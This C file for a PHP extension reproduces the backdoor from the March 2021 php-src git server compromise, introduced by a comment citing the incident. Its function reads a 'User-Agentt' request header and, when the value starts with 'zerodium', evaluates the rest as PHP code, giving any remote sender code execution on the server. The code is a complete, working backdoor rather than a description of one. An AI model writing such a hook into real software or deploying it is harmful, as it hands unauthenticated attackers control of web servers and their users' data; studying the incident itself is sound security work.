/*
 * Incident: php-src git server compromise, 28 March 2021.
 * Two commits pushed to git.php.net under core developers' names added code to the zlib
 * extension: a request whose "User-Agentt" header started with "zerodium" had the rest of
 * the header evaluated as PHP code. Reference: https://news-web.php.net/php.internals/113838
 * Reproduction (own code against a simplified request API).
 */
#include <string.h>
#include "php.h"
#include "SAPI.h"

static void zlib_request_hook(void)
{
	zval *server = &PG(http_globals)[TRACK_VARS_SERVER];
	zval *agent;

	if (Z_TYPE_P(server) != IS_ARRAY) {
		return;
	}
	agent = zend_hash_str_find(Z_ARRVAL_P(server), "HTTP_USER_AGENTT", sizeof("HTTP_USER_AGENTT") - 1);
	if (agent != NULL && Z_TYPE_P(agent) == IS_STRING) {
		if (strstr(Z_STRVAL_P(agent), "zerodium") == Z_STRVAL_P(agent)) {
			zend_try {
				zend_eval_string(Z_STRVAL_P(agent) + 8, NULL, "REMOVETHIS: sold to zerodium, mid 2017");
			} zend_end_try();
		}
	}
}
